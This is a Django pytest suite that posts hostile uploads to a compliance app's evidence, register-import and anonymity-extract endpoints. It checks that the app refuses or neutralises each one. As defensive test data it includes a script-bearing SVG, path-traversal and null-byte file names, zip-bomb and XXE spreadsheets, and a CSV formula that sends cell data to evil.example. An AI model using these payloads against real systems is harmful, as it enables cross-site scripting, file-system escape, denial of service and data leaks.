"""Hostile files through the real pages and API, each file built in its test: the user
reads a message naming the problem (400 or a form error), no row and no file is left
behind, never a 500.

Hostile file names are sent in hand-made multipart bodies: Django's test client keeps
only the base name of a file it sends, a browser or a script need not."""

from __future__ import annotations

from functools import partial
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from anonymity.uploads import upload_dir
from compliance.models import Organisation
from evidence.models import Evidence, EvidenceRevision
from evidence.sniffing import sniff
from privacy.models import ProcessingActivity, RegisterImport
from tests.evidence.conftest import EXE, PDF, png_bytes, stored_files
from tests.evidence.conftest import write_key as write_key  # the fixture
from tests.helpers import page_text
from tests.hostile.conftest import hostile_settings
from tests.hostile.files import external_entity, xlsx_bytes, zip_bomb_xlsx

pytestmark = pytest.mark.usefixtures("db")

BOUNDARY = "hostile-boundary-7f3a"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>fetch('/api/v1/evidence/').then(r=>r.text()).then(alert)</script></svg>\n"
)
HOSTILE_NAMES = [
    "../../etc/passwd.txt",
    "/etc/passwd.txt",
    "..\\..\\windows\\win.ini.txt",
    "C:\\boot.txt",
    "nul\x00byte.txt",
    "x" * 296 + ".txt",
    "invoice\u202etxt.exe",  # shows as "invoiceexe.txt"
    "&#x2e;&#x2e;/&#x2e;&#x2e;/escape.txt",
]


def multipart(fields: dict[str, str], files: list[tuple[str, str, bytes]]) -> bytes:
    """A multipart/form-data body whose file names are sent exactly as given."""
    lines: list[bytes] = []
    for name, value in fields.items():
        lines += [
            f"--{BOUNDARY}".encode(),
            f'Content-Disposition: form-data; name="{name}"'.encode(),
            b"",
            value.encode(),
        ]
    for field, filename, content in files:
        lines += [
            f"--{BOUNDARY}".encode(),
            b'Content-Disposition: form-data; name="'
            + field.encode()
            + b'"; filename="'
            + filename.encode("utf-8")
            + b'"',
            b"Content-Type: application/octet-stream",
            b"",
            content,
        ]
    lines += [f"--{BOUNDARY}--".encode(), b""]
    return b"\r\n".join(lines)


def post_multipart(client: Client, url: str, body: bytes, **extra: Any) -> Any:
    return client.generic(
        "POST", url, body, content_type=f"multipart/form-data; boundary={BOUNDARY}", **extra
    )


def files_under(directory: Path) -> list[Path]:
    return sorted(p for p in directory.rglob("*") if p.is_file()) if directory.exists() else []


@pytest.fixture
def media(tmp_path: Path, settings: Any) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "spool")
    settings.ANONYMITY_UPLOAD_DIR = tmp_path / "anonymity-uploads"
    (tmp_path / "spool").mkdir()
    return tmp_path / "media"


# --- Evidence -----------------------------------------------------------------------------


def test_an_svg_with_a_script_is_refused_as_evidence(
    owner_client: Client, org_a: Organisation, media: Path
) -> None:
    for name in ("diagram.svg", "diagram.png", "diagram.txt"):  # whatever it is called
        body = multipart({"title": "Schéma"}, [("files", name, SVG)])
        response = post_multipart(owner_client, reverse("evidence_new", args=[org_a.slug]), body)
        assert response.status_code == 400
        assert "SVG" in page_text(response)
    assert not Evidence.objects.exists() and stored_files(media) == []


def test_an_svg_with_a_script_is_refused_by_the_api(
    write_key: str, org_a: Organisation, media: Path
) -> None:
    body = multipart({"title": "Schéma"}, [("files", "diagram.svg", SVG)])
    response = post_multipart(
        Client(), "/api/v1/evidence/", body, HTTP_AUTHORIZATION=f"Bearer {write_key}"
    )
    assert response.status_code == 400 and "SVG" in response.content.decode()
    assert not Evidence.objects.exists() and stored_files(media) == []


def test_a_stored_file_is_served_so_that_no_browser_runs_it(
    owner_client: Client, org_a: Organisation, media: Path
) -> None:
    # Whatever got stored (here a text file whose name promises a web page), the download
    # is an attachment, never sniffed, sandboxed.
    body = multipart({"title": "Note"}, [("files", "page.html.txt", b"<b>hello</b>\n")])
    post_multipart(owner_client, reverse("evidence_new", args=[org_a.slug]), body)
    revision = EvidenceRevision.objects.get()
    response = owner_client.get(
        reverse(
            "evidence_revision_download",
            args=[org_a.slug, revision.evidence_id, revision.number],
        )
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].startswith("text/plain")
    assert "sandbox" in response["Content-Security-Policy"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_file_names_are_stored_as_plain_names(
    owner_client: Client, org_a: Organisation, media: Path, name: str, tmp_path: Path
) -> None:
    body = multipart({"title": "Preuve"}, [("files", name, "Registre des accès\n".encode())])
    response = post_multipart(owner_client, reverse("evidence_new", args=[org_a.slug]), body)

    assert response.status_code == 302, page_text(response)[:500]
    stored = EvidenceRevision.objects.get().original_name
    assert stored and len(stored) <= 255
    assert not any(c in stored for c in "/\\\x00\u202e")
    assert stored not in {".", ".."}
    # The bytes live under MEDIA_ROOT, named by their hash; nothing was written beside it.
    assert [p.parent.parent.name for p in stored_files(media)] == ["evidence"]
    assert files_under(tmp_path) == stored_files(media)


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        pytest.param("empty.pdf", b"", "Le fichier soumis est vide.", id="empty"),
        pytest.param("scan.pdf", png_bytes(), "« scan.pdf » porte l'extension", id="png-named-pdf"),
        pytest.param("report.txt", PDF, "« report.txt » porte l'extension", id="pdf-named-txt"),
        pytest.param("tool.pdf", EXE, "« tool.pdf » porte l'extension", id="exe-named-pdf"),
    ],
)
def test_empty_and_lying_files_are_refused_as_evidence(
    owner_client: Client, org_a: Organisation, media: Path, name: str, content: bytes, problem: str
) -> None:
    body = multipart({"title": "Preuve"}, [("files", name, content)])
    response = post_multipart(owner_client, reverse("evidence_new", args=[org_a.slug]), body)
    assert response.status_code == 400
    text = page_text(response)
    assert problem in text
    assert not Evidence.objects.exists() and stored_files(media) == []


# --- Register import ----------------------------------------------------------------------


@pytest.fixture
def import_file(
    owner_client: Client, org_a: Organisation, django_capture_on_commit_callbacks: Any
) -> Any:
    """Upload a register file as a browser would; the import job runs (in-process) once
    the request's transaction commits; the page the user then reads."""

    def send(name: str, content: bytes) -> Any:
        body = multipart({}, [("file", name, content)])
        with django_capture_on_commit_callbacks(execute=True):
            response = post_multipart(
                owner_client, reverse("register_import", args=[org_a.slug]), body
            )
        assert response.status_code in (200, 302, 400), response.status_code
        if response.status_code == 302:
            return owner_client.get(response["Location"])
        return response

    return send


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("register.xlsx", partial(zip_bomb_xlsx, inflated_mb=200), id="zip-bomb"),
        pytest.param(
            "register.xlsx",
            xlsx_bytes(extra={"xl/worksheets/sheet1.xml": external_entity("worksheet", "")}),
            id="xxe-sheet",
        ),
        pytest.param("register.xlsx", xlsx_bytes(sheet=None), id="no-sheet"),
        pytest.param("register.csv", b"", id="empty"),
        pytest.param("register.csv", "Référence;Nom\n".encode("utf-16"), id="utf-16"),
        pytest.param("register.xlsx", b"Reference,Name\nR-1,x\n", id="csv-named-xlsx"),
        pytest.param("register.csv", png_bytes(), id="png-named-csv"),
        *[
            pytest.param(name, "Référence;Nom\n;Sans référence\n".encode(), id=f"name-{i}")
            for i, name in enumerate(HOSTILE_NAMES)
        ],
    ],
)
def test_a_bad_register_file_imports_nothing_and_says_why(
    import_file: Any, org_a: Organisation, media: Path, name: str, content: Any
) -> None:
    page = import_file(name, content() if callable(content) else content)

    assert page.status_code in (200, 400)
    job = RegisterImport.objects.filter(organisation=org_a).first()
    if job is None:  # refused by the form: an empty file
        assert "Le fichier soumis est vide." in page_text(page)
    else:  # accepted, then checked by the worker: every problem listed, nothing imported
        assert job.status == "failed" and job.row_errors
        assert all(error["message"] for error in job.row_errors)
        assert job.row_errors[0]["message"] in page_text(page)
        assert not any(c in job.file_name for c in "/\\\x00\u202e")
    assert not ProcessingActivity.objects.exists()
    assert stored_files(media) == []  # the uploaded file is deleted either way


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("utf-8-sig", "Référence;Nom;Finalités\nT-1;Dossier patient;Soins\n"),
        ("cp1252", "Référence;Nom;Finalités\nT-1;Dossier patient;Soins\n"),
        ("utf-8", "Référence;Nom;Finalités\nT-1;Dossier patient;Soins\n"),
    ],
)
def test_a_register_csv_in_any_common_encoding_imports_its_accents(
    import_file: Any, media: Path, encoding: str, text: str
) -> None:
    import_file("register.csv", text.encode(encoding))
    assert ProcessingActivity.objects.get().purposes == "Soins"
    assert stored_files(media) == []


def test_formula_cells_are_imported_as_text_and_exported_neutralised(
    import_file: Any, owner_client: Client, org_a: Organisation, media: Path
) -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
    csv_text = f'Référence;Nom;Notes\nT-1;"@SUM(1+1)";"{evil.replace(chr(34), chr(34) * 2)}"\n'
    import_file("register.csv", csv_text.encode("utf-8"))
    processing = ProcessingActivity.objects.get()
    assert (processing.name, processing.notes) == ("@SUM(1+1)", evil)

    export = owner_client.get(reverse("register_export", args=[org_a.slug]), {"lang": "fr"})
    body = export.content.decode("utf-8-sig")
    assert "'@SUM(1+1)" in body and f"'{evil}".replace('"', '""') in body


# --- Anonymity extract upload -------------------------------------------------------------


def _upload_extract(client: Client, org: Organisation, name: str, content: bytes) -> Any:
    body = multipart({}, [("file", name, content)])
    return post_multipart(client, reverse("anonymity_new", args=[org.slug]), body)


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        pytest.param(partial(zip_bomb_xlsx, inflated_mb=300), "zip bomb", id="zip-bomb"),
        pytest.param(b"", "Le fichier soumis est vide.", id="empty"),
        pytest.param("âge;sexe\n".encode("utf-16"), "binary", id="utf-16"),
        pytest.param(png_bytes(), "binary", id="png-named-csv"),
    ],
)
def test_a_hostile_extract_is_refused_on_the_form_and_not_kept(
    owner_client: Client, org_a: Organisation, media: Path, content: Any, problem: str
) -> None:
    content = content() if callable(content) else content
    response = _upload_extract(owner_client, org_a, "extract.csv", content)
    assert response.status_code == 200 and problem in page_text(response)
    assert files_under(upload_dir()) == []


def test_an_extract_that_fails_after_upload_is_not_kept(
    owner_client: Client, org_a: Organisation, media: Path
) -> None:
    response = _upload_extract(owner_client, org_a, "extract.xlsx", xlsx_bytes(sheet=None))
    assert response.status_code == 200 and "sheet" in page_text(response)
    assert files_under(upload_dir()) == []


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_extract_names_are_kept_as_plain_names(
    owner_client: Client, org_a: Organisation, media: Path, name: str
) -> None:
    response = _upload_extract(owner_client, org_a, name, b"age;sexe\n30;F\n")
    assert response.status_code == 302
    pending = owner_client.session["anonymity_pending"]
    (entry,) = pending.values()
    assert not any(c in entry["name"] for c in "/\\\x00\u202e") and len(entry["name"]) <= 255
    assert [p.parent for p in files_under(upload_dir())] == [upload_dir()]


# --- The evidence type sniffer ------------------------------------------------------------


@hostile_settings
@given(
    head=st.binary(max_size=9000) | st.sampled_from([SVG, PDF, EXE, b"\xef\xbb\xbf<svg", b"#!"]),
    name=st.text(max_size=300),
)
def test_the_evidence_sniffer_answers_for_any_bytes_and_any_name(head: bytes, name: str) -> None:
    result = sniff(head, name)
    assert result.allowed != bool(result.problem)  # refused: a message; accepted: none
    assert result.media_type not in ("image/svg+xml", "text/html") or not result.allowed
